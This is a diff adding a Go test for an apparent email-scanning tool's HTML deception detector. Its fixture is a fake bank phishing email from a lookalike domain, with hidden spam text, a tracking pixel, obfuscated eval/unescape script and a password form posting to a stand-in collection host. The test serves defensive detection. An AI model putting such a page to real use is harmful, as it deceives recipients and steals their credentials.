@@ -0,0 +1,72 @@
+package main
+
+import (
+	"strings"
+	"testing"
+
+	"spamassassin-mcp/internal/deception"
+	"spamassassin-mcp/internal/handlers"
+)
+
+func TestHTMLDeception(t *testing.T) {
+	page := `<html><head><style>
+/* layout */
+.salad { font-size: 0px }
+@media only screen and (max-width: 600px) { .desktop { display: none !important } .wide { width: 100% } }
+p { margin: 0 }
+</style></head>
+<body>
+<div style="display:none">Your statement is ready to view</div>
+<p>Your account has been limited. Sign in to restore access.</p>
+<span class="salad">cheap rolex replica watches discount pharmacy viagra</span>
+<div bgcolor="#ffffff"><font color="#fefefe">lottery winner claim your prize money transfer today</font></div>
+<div style="background-color:#003366;color:#ffffff">Security Team, Example Bank plc, all rights reserved</div>
+<div class="desktop">Open this message on a desktop computer for the full layout</div>
+<img src="https://track.example.net/o.gif?id=42" width="1" height="1">
+<img src="cid:logo" width="1" height="1">
+<img src="https://cdn.example.net/logo.png" width="120" height="40">
+<form action="https://collect.example.net/post"><input type="password" name="pw"></form>
+<script>eval(unescape("%64%6f%63%75%6d%65%6e%74%2e%6c%6f%63%61%74%69%6f%6e%3d%27%68%74%74%70%73%3a%2f%2f"))</script>
+<a href="#" onclick="window.location='https://example.org'">details</a>
+</body></html>`
+	email := "From: Example Bank <alerts@examp1e-bank.net>\r\nTo: bob@example.org\r\nSubject: Account limited\r\n" +
+		"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + strings.ReplaceAll(page, "\n", "\r\n")
+
+	env := newTestEnv(t, nil)
+	var result handlers.ScanEmailResult
+	res := env.call(t, "scan_email", map[string]any{"content": email}, &result)
+	if res.IsError {
+		t.Fatalf("scan_email failed: %s", resultText(res))
+	}
+	report := result.HTMLDeception
+	if report == nil {
+		t.Fatal("no HTML deception report")
+	}
+
+	var got []string
+	for _, ind := range report.Indicators {
+		if ind.Part != "1" {
+			t.Errorf("unexpected part: %+v", ind)
+		}
+		got = append(got, ind.Type+": "+ind.Description)
+	}
+	want := []string{
+		deception.HiddenText + `: 46 letters of text hidden by font-size:0px: "cheap rolex replica watches discount pharmacy viagra"`,
+		deception.HiddenText + `: 45 letters of text hidden by text color #fefefe on background #ffffff: "lottery winner claim your prize money transfer today"`,
+		deception.TrackingPixel + ": invisible image loaded from https://track.example.net/o.gif",
+		deception.ObfuscatedJavaScript + ": scripts use eval, unescape, 27 escaped characters",
+		deception.CredentialForm + ": form asking for password submits to https://collect.example.net/post",
+	}
+	if strings.Join(got, "\n") != strings.Join(want, "\n") {
+		t.Errorf("got indicators:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+	if report.Score != 7.5 || !strings.Contains(resultText(res), "HTML deception: 5 indicator(s) worth 7.50 points") {
+		t.Errorf("unexpected score %.2f: %s", report.Score, resultText(res))
+	}
+
+	// Plain messages have no report
+	var plain handlers.ScanEmailResult
+	if res := env.call(t, "scan_email", map[string]any{"content": testEmail}, &plain); res.IsError || plain.HTMLDeception != nil {
+		t.Errorf("unexpected HTML deception report: %+v", plain.HTMLDeception)
+	}
+}